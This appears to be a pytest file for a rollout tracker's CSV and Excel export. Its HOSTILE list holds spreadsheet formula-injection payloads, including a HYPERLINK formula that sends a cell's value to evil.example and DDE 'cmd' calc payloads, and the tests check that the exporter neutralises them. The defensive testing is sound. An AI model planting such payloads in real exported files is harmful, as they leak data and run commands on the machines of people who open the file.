"""Cells as CSV and Excel: read back, hostile texts and all."""

import csv
import io
import json
from datetime import date, datetime

import openpyxl
import pytest
import time_machine
from openpyxl.styles import PatternFill

from app.actions.adopting import Terms
from app.actions.exporting import HEADINGS, harmless
from tests.app.rollouts_made import CHECK, NOW, make_learning, make_services, seen, state

DUE = date(2026, 12, 1)
HOSTILE = [
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "+81-3-1234-5678",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "\ufeff=1+1",
    "\u200b\u200e=1+1",
    "\u2060\u00ad@SUM(1)",
    "\ufe0f\u3164+1",
    " \u3000=1+1",
    "%=1+1",
    "％＝1+1",
    "﹦1+1",
]
#: Texts that begin with what may stand before a formula, and are none.
MEEK = ["", "\ufeff", "\u200b1+1", "％", "100 %", "a=1", " 年末は凍結", "'=1"]


@pytest.fixture(autouse=True)
def _clock():
    with time_machine.travel(NOW, tick=False):
        yield


@pytest.fixture
def learning(hub, cast) -> str:
    make_services(hub)
    return make_learning(hub, terms=Terms(due=DUE), checks=(CHECK,))


@pytest.fixture
def read(signed_in):
    """``read(learning)``: the lines of its CSV, by heading."""

    def lines(learning: str, who: str = "sre", lang: str = "en") -> list[dict[str, str]]:
        browser = signed_in(who)
        browser.cookies.set("lang", lang)
        answer = browser.get(f"/api/v1/rollouts/{learning}/export.csv")
        assert answer.status_code == 200
        return list(csv.DictReader(io.StringIO(answer.content.decode("utf-8-sig"), newline="")))

    return lines


@pytest.fixture
def book(signed_in):
    """``book("/rollouts.xlsx")``: the Excel file of an address."""

    def opened(address: str, who: str = "sre") -> openpyxl.Workbook:
        return openpyxl.load_workbook(io.BytesIO(signed_in(who).get(address).content))

    return opened


def test_a_line_for_each_cell(hub, learning, read):
    seen(hub, learning, "search-api", url="https://ci.example.jp/1")
    state(hub, learning, "career-api", "deferred", until=date(2026, 12, 24), note="年末は凍結")
    lines = {line["Service"]: line for line in read(learning)}
    assert sorted(lines) == ["career-api", "payments-api", "search-api"]
    verified, deferred = lines["search-api"], lines["career-api"]
    assert verified["Status"] == "Done (verified)"
    assert (verified["Status code"], verified["Evidence tier"]) == ("verified", "T2")
    assert verified["Evidence"] == "https://ci.example.jp/1"
    assert (deferred["By"], deferred["Via"]) == ("Yokoten", "on the web")
    assert (deferred["Your note"], deferred["Until which day"]) == ("年末は凍結", "2026-12-24")
    assert deferred["When (Asia/Tokyo)"] == "2026-11-25 12:00"
    assert lines["payments-api"]["Status code"] == "unanswered"
    assert {line["Due"] for line in lines.values()} == {"2026-12-01"}


def test_the_file_is_what_excel_reads_as_utf_8(learning, signed_in):
    answer = signed_in("reader").get(f"/api/v1/rollouts/{learning}/export.csv")
    assert answer.content.startswith(b"\xef\xbb\xbf")
    assert answer.content.count(b"\r\n") == 4
    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
    assert answer.headers["content-disposition"].startswith("attachment")


def test_the_status_is_in_the_reader_s_language_and_its_code_is_not(learning, read):
    [line, *_] = read(learning, lang="ja")
    values = list(line.values())
    assert "未回答" in values
    assert "unanswered" in values


def test_a_token_that_reads_may_have_it(client, learning, token):
    address = f"/api/v1/rollouts/{learning}/export.csv"
    assert client.get(address).status_code == 401
    assert client.get(address, headers=token("read")).status_code == 200
    assert client.get("/api/v1/rollouts/ln-no/export.csv", headers=token("read")).status_code == 404


@pytest.mark.parametrize("text", HOSTILE)
def test_no_value_is_a_formula(text):
    assert harmless(text) == f"'{text}"
    assert harmless(f"a{text}") == f"a{text}"


@pytest.mark.parametrize("text", MEEK)
def test_what_is_no_formula_stays_as_it_is(text):
    assert harmless(text) == text


def test_a_hostile_statement_and_note_stay_texts(hub, cast, read, book):
    make_services(hub)
    learning = make_learning(hub, HOSTILE[0])
    state(hub, learning, "search-api", "affected", note=HOSTILE[2])
    for line in read(learning):
        assert line["Statement"] == f"'{HOSTILE[0]}"
    assert f"'{HOSTILE[2]}" in [line["Your note"] for line in read(learning)]
    cells = [cell for sheet in book("/rollouts.xlsx") for row in sheet.iter_rows() for cell in row]
    assert HOSTILE[0] in [cell.value for cell in cells]
    assert {cell.data_type for cell in cells} <= {"s", "n", "d"}
    assert not any(cell.hyperlink for cell in cells)


def test_naughty_strings_come_back_as_they_are(corpus, hub, cast, read, book):
    make_services(hub)
    naughty = json.loads((corpus / "security/blns.json").read_text())
    notes = [text[:2000] for text in naughty if text.strip() and "\0" not in text][::40]
    for at, note in enumerate(notes):
        learning = make_learning(hub, f"lesson {at}", condition='service == "search-api"')
        state(hub, learning, "search-api", "claimed", note=note)
        [line] = read(learning)
        assert line["Your note"] == harmless(note.strip())
    sheet = book("/rollouts.xlsx").worksheets[0]
    assert {cell.data_type for row in sheet.iter_rows() for cell in row} <= {"s", "n", "d"}


def test_excel_has_days_as_days_and_stays_readable(hub, learning, book):
    state(hub, learning, "career-api", "deferred", until=date(2026, 12, 24))
    sheet = book(f"/api/v1/rollouts/{learning}/export.xlsx").worksheets[0]
    headings = [cell.value for cell in sheet[1]]
    line = dict(zip(headings, [cell.value for cell in sheet[2]], strict=True))
    assert line["Until which day"] == datetime(2026, 12, 24)  # noqa: DTZ001 - Excel has no zones
    assert line["When (Asia/Tokyo)"] == datetime(2026, 11, 25, 12)  # noqa: DTZ001 - the same
    assert len(headings) == len(HEADINGS)
    assert sheet.freeze_panes == "C2"
    assert sheet.auto_filter.ref
    assert sheet["A2"].font.name in ("Yu Gothic", "Calibri")


def test_the_second_sheet_is_the_table(hub, learning, book):
    seen(hub, learning, "search-api")
    state(hub, learning, "career-api", "claimed")
    sheet = book("/rollouts.xlsx").worksheets[1]
    heads = [cell.value for cell in sheet[1]]
    row = dict(zip(heads, sheet[2], strict=True))
    assert row["検索API"].value == "V"
    assert row["検索API"].fill.fill_type == "solid"
    assert row["応募API"].value == "C"
    assert row["応募API"].fill == PatternFill()
    assert row["応募画面"].value == "–"
    assert sheet[2][2].value == "1/3"


def test_the_files_of_the_table_hold_what_the_filters_choose(hub, learning, signed_in):
    state(hub, learning, "career-api", "claimed")
    other = make_learning(hub, "other")

    def services(query: str) -> list[tuple[str, str]]:
        text = signed_in("keeper").get(f"/rollouts.csv{query}").content.decode("utf-8-sig")
        return [(line[0], line[4]) for line in list(csv.reader(io.StringIO(text)))[1:]]

    assert services("?status=claimed") == [(learning, "career-api")]
    assert services("?kind=circulated&team=search") == [(other, "search-api")]
    assert services("?mine=1") == [(learning, "career-api"), (other, "career-api")]
    assert len(services("")) == 6
